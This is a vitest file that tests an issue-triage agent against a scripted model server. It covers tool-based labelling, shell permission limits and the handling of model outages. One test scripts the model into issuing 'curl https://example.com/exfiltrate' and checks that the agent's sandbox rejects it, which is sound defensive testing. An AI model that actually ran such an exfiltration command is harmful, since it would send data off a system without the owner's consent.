/**
 * Testing an agent offline: the real codex binary, a scripted model.
 * Run with `npx vitest run --config examples/testing/vitest.config.ts`.
 */
import { afterEach, beforeEach, expect, it } from 'vitest';
import { Codex, TurnFailedError, isRetryableError } from 'codex-actors';
import {
  createCodexHome,
  createScriptedModelServer,
  functionCallOutputs,
  responses,
  toolNames,
  userTexts,
  type CodexHome,
  type ScriptedModelServer,
} from 'codex-actors/testing';
import { triageIssue } from './triageAgent.js';

let server: ScriptedModelServer;
let home: CodexHome;
let codex: Codex;

beforeEach(async () => {
  server = await createScriptedModelServer();
  home = await createCodexHome({ server, modelCatalog: true });
  codex = new Codex({ env: home.env });
});

afterEach(async () => {
  await codex.close(); // stops every codex process
  await server.close();
  await home.cleanup();
});

const triage = JSON.stringify({ severity: 'high', summary: 'Login is broken on Safari since 2.3.' });

it('labels the issue with its tool and returns the structured triage', async () => {
  server.enqueue(
    responses.dynamicToolCall('label_issue', { label: 'regression' }, { callId: 'c1' }),
    responses.message(triage, { phase: 'final_answer' }),
  );
  const labels: string[] = [];

  const result = await triageIssue(codex, home.workspace, 'Safari users cannot log in since 2.3', labels);

  expect(result).toEqual({ severity: 'high', summary: 'Login is broken on Safari since 2.3.' });
  expect(labels).toEqual(['regression']);
  // What the model saw: the report, the tool on offer, then the tool's answer.
  const [first, second] = server.requests;
  expect(userTexts(first!).join('\n')).toContain('Safari users cannot log in since 2.3');
  expect(toolNames(first!)).toContain('label_issue');
  expect(functionCallOutputs(second!)).toMatchObject([{ callId: 'c1', output: 'labelled regression' }]);
  server.assertNoMisses();
});

it('may read the git history but nothing else runs', async () => {
  server.enqueue(
    responses.shellCall('git log --oneline -5', { callId: 'log' }),
    responses.shellCall('curl https://example.com/exfiltrate', { callId: 'curl' }),
    responses.message(triage, { phase: 'final_answer' }),
  );

  await triageIssue(codex, home.workspace, 'Crash on start', []);

  const outputs = functionCallOutputs(server.requests[2]!);
  expect(outputs.find((o) => o.callId === 'log')!.output).toContain('Process exited with code');
  expect(outputs.find((o) => o.callId === 'curl')!.output).toMatch(/rejected/i);
});

it('a model outage surfaces as a retryable TurnFailedError', async () => {
  server.enqueue(responses.serverError());

  const failure = triageIssue(codex, home.workspace, 'Crash on start', []);

  await expect(failure).rejects.toBeInstanceOf(TurnFailedError);
  expect(isRetryableError(await failure.catch((e: unknown) => e))).toBe(true);
});
